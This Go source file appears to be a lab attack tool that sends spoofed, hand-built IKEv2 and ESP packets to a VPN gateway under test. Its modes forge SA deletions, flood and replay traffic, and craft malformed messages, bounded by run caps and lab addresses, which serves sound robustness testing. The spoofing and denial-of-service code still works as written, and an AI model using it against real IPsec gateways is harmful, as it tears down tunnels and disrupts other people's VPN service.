// Command ikeattack is a hostile IKEv2/ESP peer for cgwd's lab. It runs in
// lab-inet, the router between cgwd and the AWS endpoints, and sends
// hand-built packets with a spoofed source (by default the AWS endpoint
// 203.0.113.10:4500) to cgwd (198.51.100.2:4500) through a raw socket, so
// it can forge anything an attacker on the path can. Every run is bounded:
// it stops after -count packets or -duration, whichever comes first, and
// both have hard caps.
//
//	ip netns exec lab-inet ikeattack -mode delete-ike -spi-i 0123456789abcdef -spi-r fedcba9876543210 -count 100
//	ip netns exec lab-inet ikeattack -mode init-flood -src 203.0.113.10:500 -dst 198.51.100.2:500 -rate 5000 -duration 10s
//
// Modes (see test/netns/README.md):
//
//	delete-ike    cleartext INFORMATIONAL with Delete(IKE) in the given IKE SA
//	delete-esp    cleartext INFORMATIONAL with Delete(ESP, -child-spi)
//	create-child  cleartext CREATE_CHILD_SA request for a new Child SA
//	invalid-ke    answers each request cgwd sends in the IKE SA (sniffed on -iface) at once with a
//	              response of the same exchange and message ID carrying INVALID_KE_PAYLOAD
//	delete-bomb   Delete payloads with SPI size 0 and 65535 SPIs claimed (-exchange init: in IKE_SA_INIT; sa: in the IKE SA)
//	init-flood    well-formed IKE_SA_INIT requests, each from a new random SPI
//	replay-ike    sniffs the peer's last request (-learn), resends it altered (same message ID, other content)
//	truncated     IKE messages cut short: short header, lengths past the end, payloads shorter than their header
//	oversized     IKE messages whose lengths claim more than any datagram, or hundreds of payloads
//	esp-bad-icv   ESP for the inbound SA (-esp-spi) with fresh sequence numbers and a random ICV
//	esp-replay    sniffs real ESP for -esp-spi (-learn) and sends those packets again
//
// -sk wraps the payloads of the established-SA modes (and invalid-ke's
// answers) in a forged SK payload: random IV, ciphertext and ICV. The
// report is one JSON line on stdout.
package main

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/netip"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"
)

// Hard caps on every run, whatever the flags say.
const (
	maxCount    = 200_000
	maxRate     = 20_000
	maxDuration = 60 * time.Second
	maxLearn    = 30 * time.Second
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	err := run(ctx, os.Args[1:], os.Stdout, os.Stderr)
	stop()
	if err != nil {
		fmt.Fprintln(os.Stderr, "ikeattack:", err)
		os.Exit(1)
	}
}

// config is what one run was asked to do.
type config struct {
	mode      string
	src, dst  netip.AddrPort
	spiI      uint64
	spiR      uint64
	initiator bool   // the spoofed peer is the IKE SA's original initiator
	msgID     uint32 // first message ID
	msgIDs    int    // message IDs msgID..msgID+msgIDs-1 are used in turn
	childSPI  uint32
	espSPI    uint32
	exchange  string
	sk        bool
	count     int
	rate      int
	duration  time.Duration
	learn     time.Duration
	iface     string
}

// Report is what a run did, printed as one JSON line.
type Report struct {
	Mode    string  `json:"mode"`
	Sent    int     `json:"sent"`
	Bytes   int     `json:"bytes"`
	Errors  int     `json:"send_errors"`
	Learned int     `json:"learned,omitempty"` // packets sniffed for the replay modes
	Seconds float64 `json:"seconds"`
	Rate    float64 `json:"rate"` // packets per second achieved
}

var modes = map[string]bool{
	"delete-ike": true, "delete-esp": true, "create-child": true, "invalid-ke": true, "delete-bomb": true,
	"init-flood": true, "replay-ike": true, "truncated": true, "oversized": true, "esp-bad-icv": true, "esp-replay": true,
}

// needsSA reports whether c's mode forges messages of an established IKE SA.
func (c config) needsSA() bool {
	switch c.mode {
	case "delete-ike", "delete-esp", "create-child":
		return true
	case "invalid-ke":
		return true
	case "delete-bomb":
		return c.exchange == "sa"
	}
	return false
}

func (c config) validate() error {
	switch {
	case !modes[c.mode]:
		return fmt.Errorf("-mode: %q is not one of the modes (see -h)", c.mode)
	case !c.src.IsValid() || !c.src.Addr().Is4():
		return fmt.Errorf("-src: %v is not IPv4 ADDR:PORT", c.src)
	case !c.dst.IsValid() || !c.dst.Addr().Is4():
		return fmt.Errorf("-dst: %v is not IPv4 ADDR:PORT", c.dst)
	case c.count <= 0 || c.count > maxCount:
		return fmt.Errorf("-count: %d not in 1..%d", c.count, maxCount)
	case c.rate <= 0 || c.rate > maxRate:
		return fmt.Errorf("-rate: %d not in 1..%d", c.rate, maxRate)
	case c.duration <= 0 || c.duration > maxDuration:
		return fmt.Errorf("-duration: %v not in (0, %v]", c.duration, maxDuration)
	case c.learn <= 0 || c.learn > maxLearn:
		return fmt.Errorf("-learn: %v not in (0, %v]", c.learn, maxLearn)
	case c.msgIDs <= 0 || c.msgIDs > 1<<16:
		return fmt.Errorf("-msgids: %d not in 1..65536", c.msgIDs)
	case c.needsSA() && (c.spiI == 0 || c.spiR == 0):
		return fmt.Errorf("-mode %s: -spi-i and -spi-r (the IKE SA, from cgwd status) are required", c.mode)
	case c.mode == "delete-esp" && c.childSPI == 0:
		return errors.New("-mode delete-esp: -child-spi is required")
	case (c.mode == "esp-bad-icv" || c.mode == "esp-replay") && c.espSPI == 0:
		return fmt.Errorf("-mode %s: -esp-spi (cgwd's inbound SPI) is required", c.mode)
	case c.exchange != "init" && c.exchange != "sa":
		return fmt.Errorf("-exchange: %q is not init or sa", c.exchange)
	}
	return nil
}

// hexFlag is a flag.Value for a hexadecimal number of up to bits bits.
type hexFlag struct {
	v    *uint64
	bits int
}

func (h hexFlag) String() string {
	if h.v == nil {
		return "0"
	}
	return strconv.FormatUint(*h.v, 16)
}

func (h hexFlag) Set(s string) error {
	v, err := strconv.ParseUint(s, 16, h.bits)
	if err != nil {
		return fmt.Errorf("not a %d-bit hex number: %w", h.bits, err)
	}
	*h.v = v
	return nil
}

func run(ctx context.Context, args []string, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("ikeattack", flag.ContinueOnError)
	fs.SetOutput(stderr)
	c := config{}
	var spiI, spiR, child, espSPI, msgID uint64
	src := fs.String("src", "203.0.113.10:4500", "spoofed source ADDR:PORT")
	dst := fs.String("dst", "198.51.100.2:4500", "target ADDR:PORT (to port 4500, IKE goes behind the non-ESP marker)")
	fs.StringVar(&c.mode, "mode", "", "attack (see the package doc)")
	fs.Var(hexFlag{&spiI, 64}, "spi-i", "IKE SA initiator SPI (hex)")
	fs.Var(hexFlag{&spiR, 64}, "spi-r", "IKE SA responder SPI (hex)")
	fs.BoolVar(&c.initiator, "initiator", false, "the spoofed peer is the original initiator of the IKE SA (sets the I flag)")
	fs.Uint64Var(&msgID, "msgid", 0, "first message ID")
	fs.IntVar(&c.msgIDs, "msgids", 1, "cycle through this many message IDs from -msgid")
	fs.Var(hexFlag{&child, 32}, "child-spi", "Child SA SPI for delete-esp (hex)")
	fs.Var(hexFlag{&espSPI, 32}, "esp-spi", "cgwd's inbound ESP SPI (hex)")
	fs.StringVar(&c.exchange, "exchange", "init", "delete-bomb: in IKE_SA_INIT (init) or in the IKE SA (sa)")
	fs.BoolVar(&c.sk, "sk", false, "wrap payloads in a forged SK payload")
	fs.IntVar(&c.count, "count", 100, fmt.Sprintf("send at most this many packets (cap %d)", maxCount))
	fs.IntVar(&c.rate, "rate", 1000, fmt.Sprintf("packets per second (cap %d)", maxRate))
	fs.DurationVar(&c.duration, "duration", 10*time.Second, fmt.Sprintf("send for at most this long (cap %v)", maxDuration))
	fs.DurationVar(&c.learn, "learn", 5*time.Second, "replay modes: sniff this long for packets to replay")
	fs.StringVar(&c.iface, "iface", "to-cgw", "replay modes and invalid-ke: interface to sniff on")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var err error
	if c.src, err = netip.ParseAddrPort(*src); err != nil {
		return fmt.Errorf("-src: %w", err)
	}
	if c.dst, err = netip.ParseAddrPort(*dst); err != nil {
		return fmt.Errorf("-dst: %w", err)
	}
	if msgID > 1<<32-1 {
		return fmt.Errorf("-msgid: %d does not fit 32 bits", msgID)
	}
	c.spiI, c.spiR, c.childSPI, c.espSPI, c.msgID = spiI, spiR, uint32(child), uint32(espSPI), uint32(msgID)
	if err := c.validate(); err != nil {
		return err
	}
	rep := Report{Mode: c.mode}
	gen, err := generator(c, &rep)
	if err != nil {
		return err
	}
	s, err := newRawSender()
	if err != nil {
		return err
	}
	defer s.close()
	if c.mode == "invalid-ke" {
		err = answer(ctx, c, s.send, &rep)
	} else {
		send(ctx, c, gen, s.send, &rep)
	}
	if err != nil {
		return err
	}
	return json.NewEncoder(stdout).Encode(rep)
}

// answer sniffs the requests the target sends in the IKE SA (to the peer
// whose address we spoof) and answers each at once, before the real peer
// can, with a response of the same exchange and message ID that carries
// N(INVALID_KE_PAYLOAD): cleartext, or with -sk inside a forged SK payload.
// It stops after c.count answers or c.duration.
func answer(ctx context.Context, c config, out func([]byte) error, rep *Report) error {
	start := time.Now()
	group := binary.BigEndian.AppendUint16(nil, group14)
	err := sniff(c.iface, c.dst, c.src, c.duration, func(p []byte) bool {
		if ctx.Err() != nil {
			return true
		}
		if len(p) < 4+28 || binary.BigEndian.Uint32(p) != 0 {
			return false
		}
		h := p[4:]
		if binary.BigEndian.Uint64(h) != c.spiI || binary.BigEndian.Uint64(h[8:]) != c.spiR || h[19]&flagResp != 0 {
			return false
		}
		rep.Learned++
		flags := uint8(flagResp)
		if c.initiator {
			flags |= flagInit
		}
		ps := []payload{notify(0, nInvalidKE, group)}
		if c.sk {
			ps = []payload{skForged(ps)}
		}
		m := message(header{spiI: c.spiI, spiR: c.spiR, exch: h[18], flags: flags, msgID: binary.BigEndian.Uint32(h[20:])}, ps)
		pkt := udpPacket(c.src, c.dst, append([]byte{0, 0, 0, 0}, m...))
		if err := out(pkt); err != nil {
			rep.Errors++
		} else {
			rep.Sent++
			rep.Bytes += len(pkt)
		}
		return rep.Sent+rep.Errors >= c.count
	})
	rep.Seconds = time.Since(start).Seconds()
	if rep.Seconds > 0 {
		rep.Rate = float64(rep.Sent) / rep.Seconds
	}
	return err
}

// send sends gen(0), gen(1), ... through out on a fixed schedule (packet i
// is due at start + i/rate) until c.count packets, c.duration or ctx ends.
func send(ctx context.Context, c config, gen func(i int) []byte, out func([]byte) error, rep *Report) {
	start := time.Now()
	interval := time.Second / time.Duration(c.rate)
	for i := 0; i < c.count && ctx.Err() == nil; i++ {
		due := start.Add(time.Duration(i) * interval)
		if due.Sub(start) >= c.duration {
			break
		}
		if d := time.Until(due); d > time.Millisecond {
			time.Sleep(d) // a burst of what falls due within 1 ms goes out at once
		}
		pkt := udpPacket(c.src, c.dst, gen(i))
		if err := out(pkt); err != nil {
			rep.Errors++
			continue
		}
		rep.Sent++
		rep.Bytes += len(pkt)
	}
	rep.Seconds = time.Since(start).Seconds()
	if rep.Seconds > 0 {
		rep.Rate = float64(rep.Sent) / rep.Seconds
	}
}

// generator returns the function that makes the i-th UDP payload of c's mode.
func generator(c config, rep *Report) (func(i int) []byte, error) {
	marker := c.dst.Port() == 4500 // IKE on 4500 goes behind the non-ESP marker
	ikeOut := func(m []byte) []byte {
		if marker {
			return append([]byte{0, 0, 0, 0}, m...)
		}
		return m
	}
	var flags uint8
	if c.initiator {
		flags = flagInit
	}
	// inSA is a request (or, with resp, a response) of the IKE SA, cleartext
	// or, with -sk, inside a forged SK payload.
	inSA := func(i int, exch uint8, resp bool, ps ...payload) []byte {
		h := header{spiI: c.spiI, spiR: c.spiR, exch: exch, flags: flags, msgID: c.msgID + uint32(i%c.msgIDs)}
		if resp {
			h.flags |= flagResp
		}
		if c.sk {
			ps = []payload{skForged(ps)}
		}
		return ikeOut(message(h, ps))
	}
	switch c.mode {
	case "delete-ike":
		return func(i int) []byte { return inSA(i, exchInfo, false, del(protoIKE, 0, 0, nil)) }, nil
	case "delete-esp":
		spi := binary.BigEndian.AppendUint32(nil, c.childSPI)
		return func(i int) []byte { return inSA(i, exchInfo, false, del(protoESP, 4, 1, spi)) }, nil
	case "create-child":
		return func(i int) []byte {
			return inSA(i, exchChild, false, espProposal(), nonce(), ts(ptTSi), ts(ptTSr))
		}, nil
	case "delete-bomb":
		bombs := make([]payload, 64) // 64 x 8 bytes, each claiming 65535 SPIs of size 0
		for j := range bombs {
			bombs[j] = del(protoIKE, 0, 0xffff, nil)
		}
		if c.exchange == "init" {
			return func(i int) []byte { return ikeOut(initRequest(append([]payload(nil), bombs...)...)) }, nil
		}
		return func(i int) []byte { return inSA(i, exchInfo, false, bombs...) }, nil
	case "init-flood":
		return func(i int) []byte { return ikeOut(initRequest()) }, nil
	case "invalid-ke":
		return nil, nil // it answers what it sniffs: see answer
	case "truncated":
		return func(i int) []byte { return ikeOut(truncated(i)) }, nil
	case "oversized":
		return func(i int) []byte { return ikeOut(oversized(i)) }, nil
	case "esp-bad-icv":
		return func(i int) []byte {
			b := binary.BigEndian.AppendUint32(nil, c.espSPI)
			b = binary.BigEndian.AppendUint32(b, 1<<31+uint32(i)) // far ahead: passes the replay window
			return append(b, randBytes(8+64+16)...)               // IV, ciphertext, ICV
		}, nil
	case "replay-ike":
		reqs, err := collect(c.iface, c.src, c.dst, c.learn, 64, func(p []byte) bool {
			if len(p) < 4+28 || binary.BigEndian.Uint32(p) != 0 {
				return false // ESP, or no IKE header
			}
			h := p[4:]
			if c.spiI != 0 && (binary.BigEndian.Uint64(h) != c.spiI || binary.BigEndian.Uint64(h[8:]) != c.spiR) {
				return false
			}
			return h[18] != exchInit && h[19]&flagResp == 0 // a request in an established SA
		})
		if err != nil {
			return nil, err
		}
		if len(reqs) == 0 {
			return nil, fmt.Errorf("replay-ike: no IKE request from %v to %v seen on %s in %v", c.src, c.dst, c.iface, c.learn)
		}
		rep.Learned = len(reqs)
		last := reqs[len(reqs)-1] // the request the target answered last
		return func(i int) []byte {
			b := append([]byte(nil), last...)
			b[len(b)-1] ^= byte(1 + i%255) // same header and message ID, other content
			return b
		}, nil
	case "esp-replay":
		pkts, err := collect(c.iface, c.src, c.dst, c.learn, 256, func(p []byte) bool {
			return len(p) >= 8 && binary.BigEndian.Uint32(p) == c.espSPI
		})
		if err != nil {
			return nil, err
		}
		if len(pkts) == 0 {
			return nil, fmt.Errorf("esp-replay: no ESP for SPI %08x seen on %s in %v", c.espSPI, c.iface, c.learn)
		}
		rep.Learned = len(pkts)
		return func(i int) []byte { return pkts[i%len(pkts)] }, nil
	}
	return nil, fmt.Errorf("-mode %s: not implemented", c.mode)
}

// truncated returns the i-th of a cycle of IKE_SA_INIT requests whose
// structure ends early: every one is malformed.
func truncated(i int) []byte {
	full := initRequest()
	switch i % 5 {
	case 0: // shorter than the IKE header
		return full[:20]
	case 1: // the header's length claims more than arrived
		return full[:len(full)-40]
	case 2: // the first payload's length runs past the end of the message
		b := append([]byte(nil), full...)
		binary.BigEndian.PutUint16(b[28+2:], uint16(len(b)))
		return b
	case 3: // a payload length shorter than the generic payload header
		b := append([]byte(nil), full...)
		binary.BigEndian.PutUint16(b[28+2:], 2)
		return b
	default: // cut inside the KE payload, lengths fixed up to match
		b := append([]byte(nil), full[:28+60]...)
		binary.BigEndian.PutUint32(b[24:], uint32(len(b)))
		return b
	}
}

// oversized returns the i-th of a cycle of IKE_SA_INIT requests that claim
// or carry far more than a real one.
func oversized(i int) []byte {
	switch i % 4 {
	case 0: // the header claims a 4 GiB message
		b := initRequest()
		binary.BigEndian.PutUint32(b[24:], 0xffffffff)
		return b
	case 1: // a payload claims 65535 bytes
		b := initRequest()
		binary.BigEndian.PutUint16(b[28+2:], 0xffff)
		return b
	case 2: // 170 empty Notify payloads in one datagram (as many as fit 1500 bytes)
		ps := make([]payload, 170)
		for j := range ps {
			ps[j] = notify(0, 40000, nil)
		}
		return message(header{spiI: randSPI(), exch: exchInit, flags: flagInit}, ps)
	default: // an SA payload claiming 255 proposals of 255 transforms
		sa := []byte{2, 0, 0xff, 0xff, 1, protoIKE, 0, 0xff}
		for j := 0; j < 80; j++ {
			sa = append(sa, transform(1, 20, 256, false)...)
		}
		return message(header{spiI: randSPI(), exch: exchInit, flags: flagInit},
			[]payload{{typ: ptSA, body: sa}, ke(groupECP, ecpPublic), nonce()})
	}
}
